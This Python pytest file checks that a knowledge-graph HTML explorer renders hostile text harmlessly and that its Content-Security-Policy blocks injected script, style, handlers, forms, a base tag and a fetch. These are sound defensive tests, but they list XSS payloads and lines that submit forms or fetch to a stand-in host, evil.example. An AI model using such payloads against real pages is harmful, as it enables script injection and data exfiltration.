"""A page whose every text is hostile, looked at everywhere in a real browser; and a policy that would stop it if it were not text."""

from __future__ import annotations

import re
from dataclasses import replace
from html import unescape
from itertools import cycle
from pathlib import Path

import pytest
from walker import ADDRESSES, MARKUP, everywhere

from kg.explore import page, write_page
from kg.graph import Graph
from kg.model import Amount
from tests.factories import sample_graph


@pytest.fixture(scope="module")
def wholly_hostile() -> Graph:
    """The sample graph, with payloads wherever a document's text or an address can stand."""
    graph, bad, odd = sample_graph(), cycle(MARKUP), cycle([*ADDRESSES, *MARKUP])
    entities = {
        id_: replace(
            e,
            labels={"zh-Hant": next(bad) + id_, "en": next(bad) + id_},
            aliases=(next(bad), next(odd)),
            identifiers={next(odd): next(odd)},
        )
        for id_, e in graph.entities.items()
    }
    documents = {
        id_: replace(d, title=next(odd), author=next(bad), publisher=next(odd), published=next(bad), source=next(odd), lang='"><script>')
        for id_, d in graph.documents.items()
    }
    claims = {}
    for id_, c in graph.claims.items():
        q = c.qualifiers
        amount = replace(q.amount, text=next(bad)) if isinstance(q.amount, Amount) else None
        qualifiers = replace(q, rate=next(bad), role=next(bad), stage=next(odd), amount=amount)
        evidence = replace(c.evidence, quote=next(bad) + c.evidence.quote, section=next(odd), rule=next(bad))
        claims[id_] = replace(c, qualifiers=qualifiers, evidence=evidence)
    return Graph(documents, entities, claims, graph.relations)


@pytest.mark.browser
@pytest.mark.slow
def test_nothing_hostile_is_more_than_text(browser, wholly_hostile: Graph, vocab, tmp_path: Path) -> None:
    """In every view, in both languages, with links to documents: no element, handler, address or script; the policy had nothing to stop."""
    path = tmp_path / "graph.html"
    write_page(wholly_hostile, path, vocab=vocab, title=MARKUP[2])
    browser.get_log("browser")
    browser.get(path.as_uri())
    browser.execute_script("kg.state.served = true")  # sentences link to their documents

    assert everywhere(browser) == []
    assert browser.execute_script("return document.title") == MARKUP[2]
    assert browser.execute_script("return window.__xss") is None
    assert browser.get_log("browser") == []


@pytest.mark.browser
@pytest.mark.parametrize(
    "attack",
    [
        "document.body.innerHTML = '<img src=x onerror=\"window.__xss = 1\">'",
        "document.body.insertAdjacentHTML('beforeend', '<b>')",
        "const s = document.createElement('script'); s.textContent = 'window.__xss = 1'; document.body.append(s)",
        "document.body.setAttribute('onclick', 'window.__xss = 1'); document.body.click()",
        "setTimeout('window.__xss = 1')",
        "const s = document.createElement('style'); s.textContent = 'body { outline: 3px solid red }'; document.head.append(s)",
        "document.body.setAttribute('style', 'outline: 3px solid red')",
        "const f = document.createElement('form'); f.action = 'https://evil.example/'; document.body.append(f); f.submit()",
        "const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b)",
        "fetch('https://evil.example/').catch(() => {})",
    ],
)
def test_the_policy_would_stop_it(browser, vocab, tmp_path: Path, attack: str) -> None:
    """Were a text taken for markup, script, style or address after all, the browser would refuse it: each of these is blocked and reported."""
    path = tmp_path / "graph.html"
    write_page(sample_graph(), path, vocab=vocab)
    browser.get(path.as_uri())
    browser.get_log("browser")
    seen = browser.execute_script(
        "window.__stopped = []; document.addEventListener('securitypolicyviolation', (e) => window.__stopped.push(e.effectiveDirective));"
        f"try {{ {attack} }} catch (error) {{ if (error.name !== 'TypeError') throw error; }}"
        "return new Promise((done) => setTimeout(() => done([window.__stopped.length, window.__xss ?? null, getComputedStyle(document.body).outlineStyle]), 300))"
    )

    assert seen[0] >= 1 and seen[1] is None and seen[2] != "solid"


def test_the_policy_names_what_it_runs(vocab) -> None:
    """Scripts and styles by their hashes, connections to its own server only; the page itself has no style of its own and no handler."""
    html = page(sample_graph(), vocab=vocab)
    [policy] = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', html)
    rules = dict(rule.split(" ", 1) for rule in unescape(policy).split("; "))
    body = re.sub(r"<(script|style)[^>]*>.*?</\1>", "", html, flags=re.DOTALL)

    assert rules["default-src"] == "'none'"
    for name in ("script-src", "style-src"):
        assert re.fullmatch(r"(?:'sha256-[\w+/=]+' ?)+", rules[name])
    assert (rules["connect-src"], rules["base-uri"], rules["form-action"]) == ("'self'", "'none'", "'none'")
    assert (rules["require-trusted-types-for"], rules["trusted-types"]) == ("'script'", "'none'")
    assert not re.search(r"<[^>]+\s(?:style|on\w+)=", body)
